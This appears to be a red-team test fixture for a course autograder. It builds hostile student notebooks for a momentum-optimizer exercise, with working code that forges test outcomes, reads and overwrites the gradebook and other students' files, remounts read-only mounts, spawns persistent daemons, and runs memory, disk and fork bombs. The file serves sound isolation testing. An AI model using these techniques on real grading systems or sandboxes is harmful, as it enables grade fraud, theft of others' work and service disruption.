"""Attack submissions for lesson 06 (``momentum_step``), used by ``tests/isolation/test_redteam.py``.

Each attack is a hostile student's notebook: the released notebook with extra cells, a
replaced solution cell, tampered cell metadata, or extra files (symlinks) in the
submission folder. They are written as a motivated student would write them against the
course's grading: the attack code knows the repository's and the course folder's
absolute paths (a student can learn or guess them), and it prints ``LEAKED``/``WROTE``/
``FOUND`` lines whenever it obtains something it must not.

Everything distinctive the attacks look for (hidden-test lines, the reference's source,
other students' secrets, the SQLite header) is spelled in pieces here, so that the
attack's own source -- which the feedback shows back to its author -- never contains it.

:func:`build` returns ``{student: Submission}``; every :class:`Submission` says what it
may score at most (``limit``): 0 for an attack on the blank release, the same wrong
implementation's score without the attack for an attack on a wrong one.
"""

from __future__ import annotations

import copy
import textwrap
from dataclasses import dataclass, field

import nbformat

LESSON = "06_momentum"
EXERCISE = "momentum_step"
REFERENCE_BODY = """\
def momentum_step(w, dw, v, lr, beta=0.9):
    # {secret}
    v = beta * v + (1 - beta) * dw
    w = w - lr * v
    return w, v
"""
WRONG_BODY = """\
import numpy as np
def momentum_step(w, dw, v, lr, beta=0.99):   # the wrong default
    # {secret}
    v = beta * v + (1 - beta) * dw
    return w - lr * v, v
"""


@dataclass
class Submission:
    nb: nbformat.NotebookNode
    kind: str                      # "honest" or the attack class
    limit: str = "zero"            # "zero", "wrong" (<= the honest wrong score), "honest"
    symlinks: dict = field(default_factory=dict)   # file name -> link target


def _split(text: str) -> str:
    """``text`` as a Python expression that never contains it literally."""
    half = len(text) // 2
    return f"({text[:half]!r} + {text[half:]!r})"


def _with_solution(nb, code: str):
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == EXERCISE:
            cell.source = code
            return nb
    raise KeyError(EXERCISE)


def _other_exercises_done(nb, src_nb):
    """``nb`` with every exercise but :data:`EXERCISE` answered by the reference (an honest
    student finishes the lesson; the attacks all target :data:`EXERCISE`)."""
    nb = copy.deepcopy(nb)
    reference = {c.metadata["nbgrader"]["grade_id"]: c.source for c in src_nb.cells
                 if c.metadata.get("nbgrader", {}).get("solution")}
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in reference and gid != EXERCISE and cell.metadata["nbgrader"].get("solution"):
            cell.source = reference[gid]
    return nb


def _insert_after_solution(nb, *sources: str):
    nb = copy.deepcopy(nb)
    idx = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == EXERCISE)
    for k, src in enumerate(sources):
        nb.cells.insert(idx + 1 + k, nbformat.v4.new_code_cell(textwrap.dedent(src)))
    return nb


def _prepend(nb, *sources: str):
    """Cells right after the first (import) cell."""
    nb = copy.deepcopy(nb)
    for k, src in enumerate(sources):
        nb.cells.insert(1 + k, nbformat.v4.new_code_cell(textwrap.dedent(src)))
    return nb


# ----------------------------------------------------------------------------------------
# what the attacks look for / try to touch


def _common(repo: str, root: str, mark: str, secret: str) -> str:
    """Definitions shared by the attack cells: paths, signatures, a leak reporter."""
    sigs = ["### BEGIN " + "HIDDEN TESTS", "### BEGIN " + "SOLUTION", "SQLite " + "format 3",
            "v[...] = beta" + " * v + (1 - beta) * dw", "_ref_momentum" + "_step", secret]
    return textwrap.dedent(f"""
    import os, sys, glob
    _REPO, _ROOT, _MARK = {repo!r}, {root!r}, {mark!r}
    _SIGS = [{", ".join(_split(s) for s in sigs)}]
    _READ = [
        _REPO + "/notebooks/{LESSON}/{LESSON}.ipynb", _REPO + "/notebooks/{LESSON}/{LESSON}.py",
        _REPO + "/grader/momentum.py", _REPO + "/grader/__init__.py",
        _ROOT + "/gradebook.db", _ROOT + "/notebooks/{LESSON}/{LESSON}.ipynb",
        _ROOT + "/submitted/honest_ref/{LESSON}/{LESSON}.ipynb",
        _ROOT + "/autograded/honest_ref/{LESSON}/{LESSON}.ipynb",
        "../../../notebooks/{LESSON}/{LESSON}.ipynb", "../../honest_ref/{LESSON}/{LESSON}.ipynb",
        "../../../gradebook.db", "../../../../gradebook.db", "../../../../../gradebook.db",
        "/io/../gradebook.db", "/proc/1/cwd/gradebook.db", "/proc/1/cwd/../../../gradebook.db",
    ]
    for _k in range(4):
        _READ += [_ROOT + f"/.grading/shard{{_k}}/gradebook.db",
                  _ROOT + f"/.grading/shard{{_k}}/submitted/honest_ref/{LESSON}/{LESSON}.ipynb"]

    def _secret_in(data):
        text = data.decode("latin-1") if isinstance(data, bytes) else str(data)
        return [s for s in _SIGS if s in text]

    def _try_read(path):
        try:
            with open(path, "rb") as fh:
                data = fh.read(4_000_000)
        except Exception:
            return None
        found = _secret_in(data)
        if found:
            print("LEAKED", path, found, data[:400])
        return data
    """)


READ_CELL = """
# read the instructor's files, the gradebook and other submissions; print what is found
for _p in list(_READ):
    _try_read(_p)
for _p in glob.glob("/proc/[0-9]*"):
    for _tail in ("/cwd/gradebook.db", "/root" + _REPO + "/grader/momentum.py", "/root" + _ROOT + "/gradebook.db",
                  "/environ", "/cmdline"):
        _try_read(_p + _tail)
# everything this kernel can see outside the system and Python
_skip = ("/proc", "/sys", "/dev", "/usr", "/etc", sys.base_prefix, sys.prefix)
for _top, _dirs, _files in os.walk("/"):
    _dirs[:] = [d for d in _dirs if not os.path.join(_top, d).startswith(_skip)]
    for _f in _files:
        _p = os.path.join(_top, _f)
        if os.path.isfile(_p) and os.path.getsize(_p) < 4_000_000:
            _try_read(_p)
print("read attack done")
"""


def _write_cell(repo: str, root: str) -> str:
    return """
import sqlite3, threading, time
_W = [
    _REPO + "/notebooks/{L}/{L}.ipynb", _REPO + "/notebooks/{L}/{L}.py", _REPO + "/notebooks/{L}/earlier_lessons.py",
    _REPO + "/grader/momentum.py", _REPO + "/coursekit/judge.py", _REPO + "/coursekit/sandbox.py",
    _REPO + "/helpers/grading.py", _REPO + "/helpers/optim.py", _REPO + "/nbgrader_config.py",
    _ROOT + "/gradebook.db", _ROOT + "/grades.csv", _ROOT + "/submitted/honest_ref/{L}/{L}.ipynb",
    _ROOT + "/release/{L}/{L}.ipynb", _ROOT + "/notebooks/{L}/{L}.ipynb",
    "../../../gradebook.db", "../../honest_ref/{L}/{L}.ipynb", "../../../grades.csv", "/io/../gradebook.db",
    "/proc/1/cwd/../../../gradebook.db",
] + glob.glob(_REPO + "/data/*")[:3]
for _k in range(4):
    _W += [_ROOT + f"/.grading/shard{{_k}}/gradebook.db", _ROOT + f"/.grading/shard{{_k}}/submitted/honest_ref/{L}/{L}.ipynb"]
_DIRS = [_REPO, _REPO + "/grader", _REPO + "/coursekit", _REPO + "/helpers", _REPO + "/notebooks/{L}", _ROOT,
         _ROOT + "/submitted/honest_ref/{L}", _ROOT + "/feedback", _ROOT + "/.grading/shard0", _ROOT + "/.grading/shard1",
         "../..", "../../..", "/io/..", "/proc/1/cwd"]

def _attack_writes(tag):
    for _p in _W:
        try:
            with open(_p, "ab") as fh:
                fh.write(("\\n" + _MARK + "-" + tag + "\\n").encode())
            print("WROTE", _p)
        except Exception:
            pass
        try:
            os.chmod(_p, 0o777)
            print("WROTE chmod", _p)
        except Exception:
            pass
        if _p.endswith(".db") and os.path.exists(_p):
            try:
                con = sqlite3.connect(_p, timeout=0.1)
                con.execute("UPDATE grade SET auto_score = 10, manual_score = 10")
                con.commit()
                print("WROTE sqlite", _p)
            except Exception:
                pass
    for _d in _DIRS:
        try:
            with open(os.path.join(_d, _MARK + "-" + tag + ".txt"), "w") as fh:
                fh.write("x")
            print("WROTE new file in", _d)
        except Exception:
            pass

_attack_writes("cell")

def _keep_writing():
    while True:
        _attack_writes("thread")
        time.sleep(0.3)

threading.Thread(target=_keep_writing, daemon=True).start()
print("write attack done")
""".format(L=LESSON)


# ----------------------------------------------------------------------------------------
# the class


def build(src_nb, blank_nb, *, repo: str, root: str, mark: str, secrets: dict[str, str]) -> dict[str, Submission]:
    """The class: honest students and attackers (student id -> :class:`Submission`).

    ``src_nb`` is the instructor's source notebook (its metadata, and the reference answers of the
    exercises the attacks leave alone, which the honest students complete), ``blank_nb`` the
    release. ``secrets`` maps the honest students' ids to a token hidden in their code
    (another student finding it would have read their submission).
    """
    common = _common(repo, root, mark, secrets["honest_ref"])
    subs: dict[str, Submission] = {}

    # --- honest students -------------------------------------------------------------
    done = _other_exercises_done(blank_nb, src_nb)
    subs["honest_ref"] = Submission(_with_solution(done, REFERENCE_BODY.format(secret=secrets["honest_ref"])), "honest")
    subs["honest_wrong"] = Submission(_with_solution(done, WRONG_BODY.format(secret=secrets["honest_wrong"])), "honest")
    subs["honest_blank"] = Submission(copy.deepcopy(blank_nb), "honest")

    # --- 1. forging a test outcome from inside the kernel ------------------------------
    subs["forge_transformers"] = Submission(_prepend(blank_nb, """
        # every later cell that mentions grading or momentum_step becomes a no-op; every
        # other cell runs inside a try/except that swallows everything
        import ast
        _ip = get_ipython()
        def _nop(lines):
            text = "".join(lines)
            if "_course_probe" in text:
                return lines
            return ["pass\\n"] if ("grading" in text or "G." in text) else lines
        _ip.input_transformers_post.append(_nop)
        class _Swallow(ast.NodeTransformer):
            def visit_Module(self, node):
                handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
                node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
                return ast.fix_missing_locations(node)
        _ip.ast_transformers.append(_Swallow())
        """), "forge")

    subs["forge_hooks_display"] = Submission(_insert_after_solution(blank_nb, """
        # clear every error after the fact, hide error messages on the wire, and show a
        # fake "passed" display where a test's output would be
        from IPython.display import clear_output, display, HTML
        _ip = get_ipython()
        def _clear(result):
            result.error_in_exec = None
            result.error_before_exec = None
        _ip.events.register("post_run_cell", _clear)
        _ip.set_custom_exc((BaseException,), lambda self, etype, value, tb, tb_offset=None: display(HTML("<b>All tests passed</b>")))
        _session = _ip.kernel.session
        _send = _session.send
        def _filtered(stream, msg_or_type, content=None, *args, **kwargs):
            kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("msg_type", msg_or_type.get("header", {}).get("msg_type"))
            if kind == "error":
                return None
            if kind == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
                content = {"status": "ok", "execution_count": content.get("execution_count"), "user_expressions": {}, "payload": []}
            return _send(stream, msg_or_type, content, *args, **kwargs)
        _session.send = _filtered
        def momentum_step(w, dw, v, lr, beta=0.9):
            clear_output()
            display(HTML("<b>All tests passed</b>"))
            print("Both hand-checked steps come out right.")
            raise NotImplementedError()
        """), "forge")

    subs["forge_checks_numpy"] = Submission(_insert_after_solution(
        _with_solution(blank_nb, WRONG_BODY.format(secret="attacker")), """
        # a replaced checks module (sys.modules and the package attribute), and numpy's
        # comparisons patched to say "equal" to everything
        import sys, types, numpy as np, numpy.testing
        _fake = types.ModuleType("helpers.grading")
        class GradingError(AssertionError):
            pass
        _fake.GradingError = GradingError
        _fake.CallTimeout = GradingError
        _fake.call = lambda fn, *a, **k: fn(*a, **{kk: vv for kk, vv in k.items() if kk not in ("name", "timeout", "lend", "max_output")})
        for _name in ("check_close", "check_equal", "check_true", "check_shape", "check_unchanged", "check_raises", "check_vectorized"):
            setattr(_fake, _name, lambda *a, **k: None)
        sys.modules["helpers.grading"] = _fake
        import helpers
        helpers.grading = _fake
        np.allclose = lambda *a, **k: True
        np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
        np.array_equal = lambda *a, **k: True
        np.testing.assert_allclose = lambda *a, **k: None
        np.testing.assert_array_equal = lambda *a, **k: None
        """), "forge", limit="wrong")

    subs["forge_anyeq_stack"] = Submission(_with_solution(blank_nb, common + """
import gc, inspect
import numpy as np

class AnyEq(tuple):
    # equal to anything, an array of anything, a tuple of two of itself
    def __new__(cls):
        return super().__new__(cls, (None, None))
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __len__(self): return 2
    def __getitem__(self, k): return self
    def __array__(self, dtype=None, copy=None): return _stolen(None)
    def __float__(self): return 0.0
    __hash__ = tuple.__hash__

def _stolen(default):
    # read expected values off the stack and the heap
    names = ("_expected_w", "_expected_v", "_ref_w", "_ref_v", "_rw", "_rv", "_ref_momentum_step")
    frame = inspect.currentframe()
    while frame is not None:
        for n in names:
            if n in frame.f_locals or n in frame.f_globals:
                print("LEAKED frame", n)
                return frame.f_locals.get(n, frame.f_globals.get(n))
        frame = frame.f_back
    for obj in gc.get_objects():
        if isinstance(obj, dict) and any(n in obj for n in names):
            print("LEAKED heap", [n for n in names if n in obj])
            return next(obj[n] for n in names if n in obj)
    return default

def momentum_step(w, dw, v, lr, beta=0.9):
    got = _stolen(None)
    if got is not None:
        return got, got
    return AnyEq()
"""), "forge")

    # --- 2. delegating to a reference ----------------------------------------------------
    subs["delegate_import"] = Submission(_with_solution(blank_nb, common + """
import importlib, importlib.util, threading, sys

_found = {}

def _hunt():
    sys.setprofile(None)
    sys.settrace(None)
    for extra in (_REPO, _ROOT, "../../..", "/io/..", "/proc/1/cwd", "/proc/1/root" + _REPO):
        if extra not in sys.path:
            sys.path.insert(0, extra)
    for name in ("grader.momentum", "grader", "momentum", "helpers.optim", "helpers.ewma", "helpers.momentum",
                 "earlier_lessons"):
        try:
            mod = importlib.import_module(name)
        except Exception:
            continue
        fn = getattr(mod, "momentum_step", None)
        if fn is not None:
            print("FOUND momentum_step in module", name)
            _found["fn"] = fn
    for path in (_REPO + "/grader/momentum.py", "/proc/1/root" + _REPO + "/grader/momentum.py"):
        try:
            spec = importlib.util.spec_from_file_location("stolen_momentum", path)
            mod = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(mod)
            _found["fn"] = mod.momentum_step
            print("FOUND file module", path)
        except Exception:
            pass
    for mod in list(sys.modules.values()):
        fn = getattr(mod, "momentum_step", None)
        if callable(fn) and getattr(fn, "__module__", "") not in ("__main__",):
            _found.setdefault("fn", fn)
            print("FOUND in sys.modules", getattr(mod, "__name__", "?"))

_t = threading.Thread(target=_hunt)       # a thread: no profiler, no tracer of the grader's
_t.start(); _t.join()
_hunt()

def momentum_step(w, dw, v, lr, beta=0.9):
    sys.setprofile(None)
    fn = _found.get("fn")
    if fn is None:
        _hunt()
        fn = _found.get("fn")
    if fn is None:
        raise NotImplementedError("no reference found")
    return fn(w, dw, v, lr, beta)
"""), "delegate")

    subs["delegate_source"] = Submission(_with_solution(blank_nb, common + """
import inspect, json, sys, types

def _source_of_reference():
    # the reference's source: from the grader, the source notebook / lesson file, any
    # helpers module, any file this kernel can see that defines momentum_step
    candidates = [_REPO + "/grader/momentum.py", _REPO + "/notebooks/06_momentum/06_momentum.py",
                  _REPO + "/notebooks/06_momentum/06_momentum.ipynb", "../../../notebooks/06_momentum/06_momentum.ipynb",
                  "/proc/1/cwd/../../../notebooks/06_momentum/06_momentum.ipynb"]
    import helpers, pkgutil
    for info in pkgutil.iter_modules(helpers.__path__):
        candidates.append(os.path.join(helpers.__path__[0], info.name + ".py"))
    for top, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if not os.path.join(top, d).startswith(("/proc", "/sys", "/dev", "/usr", "/etc", sys.base_prefix, sys.prefix))]
        candidates += [os.path.join(top, f) for f in files if f.endswith((".py", ".ipynb", ".pyc"))]
    for path in candidates:
        try:
            text = open(path, encoding="utf-8", errors="replace").read()
        except Exception:
            continue
        if path.endswith(".ipynb"):
            try:
                text = "\\n".join("".join(c["source"]) for c in json.load(open(path))["cells"] if c["cell_type"] == "code")
            except Exception:
                continue
        if "_source_of_reference" in text or path.endswith(".ipynb") and os.path.dirname(os.path.abspath(path)) == os.getcwd():
            continue   # this notebook itself
        body = text.split("def momentum_step", 1)[1][:1500] if "def momentum_step" in text else ""
        if body and "NotImplementedError" not in body.split("\\ndef ", 1)[0]:
            print("FOUND source", path)
            return text
    return None

_text = _source_of_reference()
_mod = types.ModuleType("recompiled")
if _text:
    lines = [l for l in _text.splitlines() if not l.startswith(("from helpers", "import helpers", "from grader"))]
    try:
        exec(compile("\\n".join(lines), "recompiled", "exec"), _mod.__dict__)
    except Exception as exc:
        print("recompile failed", exc)

def momentum_step(w, dw, v, lr, beta=0.9):
    sys.setprofile(None)
    fn = getattr(_mod, "momentum_step", None)
    if fn is None:
        raise NotImplementedError()
    return fn(w, dw, v, lr, beta)
"""), "delegate")

    # --- 3. reading what must stay hidden and leaking it ---------------------------------
    read_nb = _insert_after_solution(blank_nb, common, READ_CELL)
    subs["read_files"] = Submission(_with_solution(read_nb, common + """
def momentum_step(w, dw, v, lr, beta=0.9):
    # at grading time too, while the judge is calling
    for p in _READ:
        _try_read(p)
    raise NotImplementedError()
"""), "read")

    subs["read_symlinks"] = Submission(_insert_after_solution(blank_nb, common, """
        # files of the submission folder that are links to the instructor's files
        for _f in sorted(os.listdir(".")):
            if _f.startswith("link_"):
                _data = _try_read(_f)
                print(_f, "readable" if _data is not None else "not readable")
        """), "read", symlinks={
        "link_source.txt": f"{repo}/notebooks/{LESSON}/{LESSON}.py",
        "link_grader.txt": f"{repo}/grader/momentum.py",
        "link_gradebook.txt": f"{root}/gradebook.db",
        "link_other.txt": f"../../honest_ref/{LESSON}/{LESSON}.ipynb",
        "link_relsource.txt": f"../../../notebooks/{LESSON}/{LESSON}.ipynb",
    })

    # --- 4. writing to the course, the grader, other submissions, the gradebook ------------
    subs["write_files"] = Submission(_with_solution(
        _insert_after_solution(blank_nb, common, _write_cell(repo, root)), common + """
def momentum_step(w, dw, v, lr, beta=0.9):
    try:
        _attack_writes("call")
    except NameError:
        pass
    raise NotImplementedError()
"""), "write")

    subs["escape_remount"] = Submission(_insert_after_solution(blank_nb, common, """
        # remount the read-only views of the host read-write (the kernel is root in its
        # namespaces) and drop a file into each; unmount them to see what lies beneath
        import ctypes, helpers
        _libc = ctypes.CDLL(None, use_errno=True)
        _views = [os.path.dirname(helpers.__file__), sys.prefix, sys.base_prefix, _REPO + "/data", "/usr", "/etc"]
        for _v in _views:
            _rc = _libc.mount(None, _v.encode(), None, 32 | 4096, None)     # MS_REMOUNT | MS_BIND, no MS_RDONLY
            try:
                with open(os.path.join(_v, _MARK + "-remount.txt"), "w") as fh:
                    fh.write("x")
                print("ESCAPED wrote into", _v, "(remount rc", _rc, ")")
            except OSError:
                pass
            if _libc.umount2(_v.encode(), 2) == 0:
                print("ESCAPED unmounted", _v)
        for _p in (_REPO + "/grader/momentum.py", _ROOT + "/gradebook.db"):
            _try_read(_p)
        """), "write")

    # --- 5. processes that outlive grading --------------------------------------------------
    daemon = textwrap.dedent(f"""
        import os, time
        end = time.time() + 120
        while time.time() < end:
            for p in ({root + '/grades.csv'!r}, {root + '/gradebook.db'!r}, {repo + '/grader/momentum.py'!r},
                      {'/tmp/' + mark + '-daemon-wrote'!r}, {root + '/' + mark + '-daemon-wrote'!r}):
                try:
                    with open(p, "a") as fh:
                        fh.write({mark!r} + "-daemon\\n")
                except OSError:
                    pass
            time.sleep(0.5)
        """)
    subs["survive_daemon"] = Submission(_insert_after_solution(blank_nb, f"""
        import os, sys, subprocess, signal, threading
        _CODE, _MARK = {daemon!r}, {mark!r}
        # double fork + setsid: a daemon re-parented away from the kernel
        _pid = os.fork()
        if _pid == 0:
            os.setsid()
            if os.fork() == 0:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                signal.signal(signal.SIGHUP, signal.SIG_IGN)
                os.execv(sys.executable, [sys.executable, "-c", _CODE, _MARK + "-double-fork"])
            os._exit(0)
        os.waitpid(_pid, 0)
        # nohup in a new session, and a plain background child
        subprocess.Popen(["nohup", sys.executable, "-c", _CODE, _MARK + "-nohup"], start_new_session=True,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)
        subprocess.Popen(["sh", "-c", f"sleep 120 # {{_MARK}}-sh &"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        print("daemons started")
        """), "survive")

    # --- 6. memory, disk and process bombs --------------------------------------------------
    subs["bomb_resources"] = Submission(_insert_after_solution(blank_nb, """
        # memory: one huge allocation, then grow until refused
        try:
            _x = bytearray(64 * 2**30)
            print("BOMB huge allocation succeeded")
        except MemoryError:
            print("huge allocation refused")
        _held = []
        try:
            while len(_held) < 160:
                _held.append(bytearray(16 * 2**20))
        except MemoryError:
            pass
        print("held MB before refusal:", 16 * len(_held))
        del _held
        """, """
        # disk: fill the home folder, /tmp, the work folder and the sandbox's root
        import os, signal
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        for _d in (os.path.expanduser("~"), "/tmp", ".", "/", "/work"):
            _n = 0
            try:
                for _k in range(16):
                    with open(os.path.join(_d, f"fill{_k}.bin"), "wb") as fh:
                        for _j in range(32):
                            fh.write(b"\\0" * 2**20)
                            _n += 1
            except OSError:
                pass
            print("wrote MB into", _d, ":", _n)
            for _k in range(16):
                try:
                    os.remove(os.path.join(_d, f"fill{_k}.bin"))
                except OSError:
                    pass
        """, """
        # processes: fork until refused (children sleep, then leave)
        import os, signal, time
        _kids = []
        for _i in range(300):
            try:
                _pid = os.fork()
            except OSError:
                break
            if _pid == 0:
                time.sleep(15)
                os._exit(0)
            _kids.append(_pid)
        print("forked", len(_kids), "children before refusal")
        for _pid in _kids:
            os.kill(_pid, signal.SIGKILL)
            os.waitpid(_pid, 0)
        """, f"""
        # the grader's own output streams: what the kernel writes to its file descriptors
        import os
        for _fd in (1, 2):
            try:
                os.write(_fd, ({mark!r} + "-fd-flood\\n").encode() + b"x" * 100_000 + b"\\n")
            except OSError:
                pass
        """), "bomb")

    subs["bomb_memory_split"] = Submission(_insert_after_solution(blank_nb, """
        # memory spread over fresh processes: each one stays under the per-process limit
        import os, resource, subprocess, sys
        _limit = resource.getrlimit(resource.RLIMIT_AS)[0]
        _limit = _limit if _limit > 0 else 1536 * 2**20   # no limit at all: as if 1.5 GiB
        _each = min(int(_limit * 0.6), 900 * 2**20)
        _code = ("import sys, time\\nn = int(sys.argv[1])\\ntry:\\n    b = bytearray(n)\\n"
                 "    for j in range(0, n, 4096): b[j] = 1\\n    print('ok', flush=True)\\n"
                 "except MemoryError:\\n    print('refused', flush=True)\\ntime.sleep(4)\\n")
        _kids = [subprocess.Popen([sys.executable, "-c", _code, str(_each)], stdout=subprocess.PIPE, text=True)
                 for _ in range(4)]
        _ok = sum(k.stdout.readline().strip() == "ok" for k in _kids)
        for _k in _kids:
            _k.kill(); _k.wait()
        print("MEMORY held at once by", _ok, "processes:", _ok * _each // 2**20, "MB; limit", _limit // 2**20, "MB")
        """), "bomb")

    # --- 7. ignoring signals to survive time limits -------------------------------------------
    subs["timeout_function"] = Submission(_with_solution(blank_nb, """
import signal
def momentum_step(w, dw, v, lr, beta=0.9):
    for s in (signal.SIGALRM, signal.SIGINT, signal.SIGTERM):
        signal.signal(s, signal.SIG_IGN)
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
"""), "timeout")

    subs["timeout_cell"] = Submission(_insert_after_solution(blank_nb, """
        import signal
        for _s in (signal.SIGALRM, signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
            signal.signal(_s, signal.SIG_IGN)
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
        """), "timeout")

    # --- 8. tampering with cell metadata ------------------------------------------------------
    nb = _insert_after_solution(blank_nb, "print('free points')")
    idx = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == EXERCISE)
    nb.cells[idx + 1].metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 50.0,
                                              "grade_id": "bonus_points", "schema_version": 3}
    extra = nbformat.v4.new_code_cell("print('also free')")
    extra.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": False, "points": 10.0,
                                  "grade_id": "test_momentum_step_trajectory", "schema_version": 3}
    nb.cells.append(extra)   # a duplicate of a real test cell's id, last (the one nbgrader keeps)
    subs["meta_fake_tests"] = Submission(nb, "metadata")

    nb = copy.deepcopy(blank_nb)
    nb.cells = [c for c in nb.cells if not (c.metadata.get("nbgrader", {}).get("grade")
                                             and not c.metadata["nbgrader"].get("solution"))]
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade_id") == EXERCISE:
            c.metadata["nbgrader"].update(grade=True, locked=True, points=10.0)
            c.source = "def momentum_step(w, dw, v, lr, beta=0.9):\n    return w, v\n"
    subs["meta_delete_tests_lock_solution"] = Submission(nb, "metadata")

    nb = copy.deepcopy(blank_nb)
    for c in nb.cells:
        meta = c.metadata.get("nbgrader", {})
        if meta.get("grade_id") == "test_momentum_step_by_hand":
            meta.update(solution=True, locked=False)          # a test cell turned into an answer cell
            c.source = "print('passed')"
        elif meta.get("grade_id") == "test_momentum_step_trajectory":
            meta.update(grade_id="test_momentum_step_renamed")  # a renamed test cell
            c.source = "print('passed')"
        elif meta.get("grade_id") == "test_momentum_step_defaults":
            meta.update(grade=False, locked=False)             # a test cell made ordinary
            c.source = "print('passed')"
        elif meta.get("grade_id") == "test_momentum_step_inputs":
            meta.update(points=100.0)
    subs["meta_flags"] = Submission(nb, "metadata")
    return subs
